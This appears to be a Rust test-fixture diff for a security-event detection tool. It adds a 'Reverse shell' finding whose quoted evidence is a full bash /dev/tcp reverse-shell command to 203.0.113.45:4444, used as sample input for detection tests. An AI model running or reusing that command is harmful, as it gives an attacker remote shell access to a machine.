@@ -288,6 +288,11 @@ fn parse(text: &str) -> Vec<ReceivedEvent> {
     blocks.collect()
 }
 
+/// Id of the item at that place of a list.
+pub(crate) fn id_of(list: &Value, at: usize) -> String {
+    list["items"][at]["id"].as_str().unwrap().to_owned()
+}
+
 /// Report of one agent about one event.
 #[derive(Debug, Clone)]
 pub(crate) struct FindingFixture<'a> {
@@ -300,6 +305,15 @@ pub(crate) struct FindingFixture<'a> {
 }
 
 pub(crate) const FAILED: &str = "Failed password for admin from 203.0.113.45 port 51502 ssh2";
+
+pub(crate) const SHELL: FindingFixture<'_> = FindingFixture {
+    agent: "SecOps",
+    severity: Severity::Critical,
+    category: Category::SuspiciousCommand,
+    title: "Reverse shell",
+    quotes: &["bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"],
+    at: Timestamp::UNIX_EPOCH,
+};
 
 impl Default for FindingFixture<'_> {
     fn default() -> Self {
